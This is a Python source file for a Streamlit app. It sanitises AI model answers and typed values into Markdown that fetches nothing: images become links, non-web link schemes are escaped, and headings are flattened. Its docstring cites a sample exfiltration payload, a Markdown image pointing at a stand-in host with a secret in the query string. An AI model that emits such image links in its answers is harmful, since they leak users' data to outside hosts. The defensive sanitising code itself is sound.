"""Text from outside (model answers, values people typed) shown as Markdown that fetches nothing.

One place decides how an answer renders, for the Playground grid and the stored-run pages alike:
headings become bold lines (a `## Features` must not fill a narrow card), images become links
(the browser would fetch `![x](http://host/?secret=...)` the moment it is shown), and links to
`data:`, `javascript:` and other non-web schemes become plain text. Raw HTML stays escaped
because answers are never rendered with `unsafe_allow_html`. Code blocks and code spans are
left exactly as written.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import streamlit as st

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_ATX = re.compile(r"^( {0,3})#{1,6}(?:[ \t]+(.*?))?(?:[ \t]+#+)?[ \t]*$")
_SETEXT = re.compile(r"^ {0,3}(=+|-+)[ \t]*$")
_BLOCK_START = re.compile(r"^( {4,}|\t| {0,3}([>*+|-]|\d+[.)]|#|`{3}|~{3}))")
_SAFE_SCHEMES = ("http:", "https:", "mailto:")
_SCHEME = r"[A-Za-z][A-Za-z0-9+.\-]{1,31}:"
# `](scheme:` of an inline link, `<scheme:` of an autolink, `[ref]: scheme:` of a definition
_LINK_TARGET = re.compile(r"\]\(\s*<?\s*(" + _SCHEME + ")")
_AUTOLINK = re.compile(r"<(" + _SCHEME + ")")
_DEFINITION = re.compile(r"^( {0,3})\[([^\]]*)\]:\s*<?\s*(" + _SCHEME + ")")
_PUNCTUATION = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$&=\"'])")


def _unsafe(scheme: str) -> bool:
    return not scheme.lower().startswith(_SAFE_SCHEMES)


def _outside_code(line: str, change: Callable[[str], str]) -> str:
    """Apply `change` to the parts of one line that are not inside `code spans`."""
    out: list[str] = []
    pos = 0
    for match in re.finditer(r"`+", line):
        if match.start() < pos:
            continue
        ticks = match.group()
        close = re.search(rf"(?<!`){ticks}(?!`)", line[match.end() :])
        if close is None:
            continue
        end = match.end() + close.end()
        out.append(change(line[pos : match.start()]))
        out.append(line[match.start() : end])
        pos = end
    out.append(change(line[pos:]))
    return "".join(out)


def _defuse(text: str) -> str:
    """Images to links, unsafe link targets to text, in inline text outside code."""
    text = text.replace("![", "[image: ")
    text = _LINK_TARGET.sub(
        lambda m: "\\" + m.group(0) if _unsafe(m.group(1)) else m.group(0), text
    )
    return _AUTOLINK.sub(lambda m: "\\" + m.group(0) if _unsafe(m.group(1)) else m.group(0), text)


def _bold(text: str, indent: str = "") -> str:
    text = text.strip().strip("*").strip()
    return f"{indent}**{text}**" if text else ""


def answer_markdown(text: str) -> str:
    """Model output as Markdown safe to show: small headings, no fetched images or data: links."""
    lines = text.split("\n")
    out: list[str] = []
    fence: str | None = None
    for index, line in enumerate(lines):
        opened = _FENCE.match(line)
        if fence is not None:
            out.append(line)
            if opened and opened.group(1)[0] == fence[0] and len(opened.group(1)) >= len(fence):
                fence = None
            continue
        if opened:
            fence = opened.group(1)
            out.append(line)
            continue
        heading = _ATX.match(line)
        if heading:
            out += ["", _bold(_outside_code(heading.group(2) or "", _defuse), heading.group(1)), ""]
            continue
        following = lines[index + 1] if index + 1 < len(lines) else ""
        if _SETEXT.match(following) and line.strip() and not _BLOCK_START.match(line):
            out += ["", _bold(_outside_code(line, _defuse)), ""]
            lines[index + 1] = ""  # the underline goes with the heading it made
            continue
        definition = _DEFINITION.match(line)
        if definition and _unsafe(definition.group(3)):
            line = definition.group(1) + "\\" + line[len(definition.group(1)) :]
        out.append(_outside_code(line, _defuse))
    return "\n".join(out).strip("\n")


def inline_markdown(value: str) -> str:
    """A short value from outside (model id, note, change) on one line; images and data: defused."""
    return _outside_code(" ".join(str(value).split()), _defuse)


def plain_markdown(value: str) -> str:
    """A value someone typed, as Markdown that shows it literally (no links, images, styles)."""
    flat = " ".join(str(value).split())
    return _PUNCTUATION.sub(r"\\\1", flat)


def show_answer(text: str, key: str) -> None:
    """An answer as safe Markdown, with a Raw tab whose code block has a copy button."""
    if not text:
        st.caption("_(empty answer)_")
        return
    formatted, raw = st.tabs(["Answer", "Raw"], key=f"{key}_view")
    with formatted:
        st.markdown(answer_markdown(text))
    with raw:
        st.code(text, language=None, wrap_lines=True)
